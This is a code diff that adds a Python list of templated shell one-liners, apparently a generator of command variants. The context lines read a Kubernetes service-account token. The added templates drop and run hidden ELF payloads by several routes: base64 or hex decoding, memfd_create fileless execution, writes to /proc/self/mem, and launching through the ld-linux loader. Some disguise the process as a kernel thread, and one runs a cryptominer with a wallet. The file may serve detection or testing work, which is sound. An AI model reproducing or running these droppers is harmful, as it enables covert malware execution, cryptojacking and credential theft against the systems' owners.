@@ -70,3 +70,26 @@ SESSION = [
     'kubectl get pods -A',
     'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
 ]
+
+# Programs that a script carries within itself, and code that never touches a disk.
+EMBEDDED = [
+    "base64 ‹-d¦--decode¦-di› > {file} <<‹EOF¦'E'¦_›\n{elf}\n‹EOF¦E¦_›\nchmod ‹+x¦755¦777› {file}‹; ¦ && ›{file} ‹&¦-d¦›",
+    'echo ‹-n ¦›"{elf}" | base64 ‹-d¦--decode› ‹>¦| tee› {file} ‹>/dev/null ¦›&& chmod ‹u+x¦700¦+x› {file} && ‹nohup ¦›{file}‹; rm -f {file}¦ &¦›',
+    '‹printf \'{elfhex}\'¦echo -ne \'{elfhex}\'¦echo -en "{elfhex}"› ‹>¦>>› {file}‹; ¦ && ›chmod ‹777¦+x› {file}‹; {file}¦ && {file} &¦; {file} {plain}›',
+    '{var}={elfgz}\n‹echo ${var}¦printf %s "${var}"› | base64 -d | ‹gunzip¦zcat¦gzip -d› > {file}; chmod +x {file}; ‹{file} &¦(exec -a \'[kthreadd]\' {file} &)¦setsid {file} >/dev/null 2>&1›',
+    "cat <<'E' | ‹base64 -d | gunzip ¦base64 -d¦xxd -r -p›> ‹/dev/shm/{name}¦{file}›\n{elfgz}\nE\nchmod 700 ‹/dev/shm/{name}¦{file}›; ‹/dev/shm/{name}¦{file}› ‹-o {host}:{port} -u {wallet} -p x¦{host} {port}¦›",
+    'python3 -c "import ctypes,os,base64;f=ctypes.CDLL(None).memfd_create(b\'‹{plain}¦¦kworker›\',1);os.write(f,‹base64.b64decode(\'{elf}\')¦__import__(\'urllib.request\').request.urlopen(\'{url}\').read()›);os.execv(\'/proc/self/fd/%d\'%f,[\'‹[kworker/0:1]¦{plain}›\'])" ‹&¦›',
+    'perl -e \'$f=syscall(319,my $n="{plain}",1);open(my $h,">&=".$f);‹print $h `curl -s {url}`;¦binmode $h;print $h `base64 -d <<< {elf}`;›exec {"/proc/$$/fd/$f"} "‹[kworker/u8:0]¦{plain}›"\'',
+    "‹curl -s {url}¦wget -qO- {url}› | ‹base64 -d | ¦gunzip | ¦›dd of=/proc/self/mem bs=1 seek=$(‹awk '/vdso/{print $1}'¦cat› /proc/self/‹maps¦syscall›) conv=notrunc",
+    'cp /bin/‹true¦sleep› {file}; ‹{dl} {url} > {file}¦base64 -d <<< {elf} > {file}›; /lib64/ld-linux-x86-64.so.2 {file} ‹&¦›',
+    '‹{dl} {url} -o¦{dl} {url} >› /dev/shm/.{name}; /lib‹64¦/x86_64-linux-gnu›/ld-linux-x86-64.so.2 /dev/shm/.{name} ‹>/dev/null 2>&1 &¦›',
+    'php -r \'$c=gzinflate(base64_decode("{b}"));‹eval($c);¦file_put_contents("{file}",$c);chmod("{file}",0755);exec("{file} > /dev/null &");›\'',
+    'python‹3¦› -c \'import zlib,base64;exec(‹zlib.decompress(¦›base64.b64decode("{b}")‹)¦›)\'',
+    'sed \'1,/^__‹PAYLOAD¦ARCHIVE¦X›__$/d\' "$0" ‹| base64 -d ¦›> {file}; chmod +x {file}; {file} & exit 0\n__‹PAYLOAD¦ARCHIVE¦X›__\n{elf}',
+    'tail -c +{port} $0 > /tmp/.{name}; chmod +x /tmp/.{name}; ‹nohup /tmp/.{name} &¦/tmp/.{name}; rm /tmp/.{name}›; exit',
+    'openssl ‹base64 -d -A¦enc -base64 -d -A› <<< "{elf}" > {file}; ‹chmod 4755 {file}; ¦chmod +x {file}; ›{file}',
+    'perl -MMIME::Base64 -e \'print decode_base64("{elf}")\' > {file} && chmod +x {file} && {file} ‹{host} {port}¦›',
+    'awk \'BEGIN{printf "{elfhex}"}\' > {file}; chmod 777 {file}; {file}',
+    "uudecode ‹-o {file}¦-p > {file}› <<'E'\nbegin 755 {plain}\nM{b}\nend\nE\n‹chmod +x {file}; ¦›{file} &",
+    'for i in ‹7f 45 4c 46 02 01 01 00¦127 69 76 70›; do printf "\\\\x$i" >> {file}; done; {dl} {url} >> {file}; chmod +x {file}; {file}',
+]
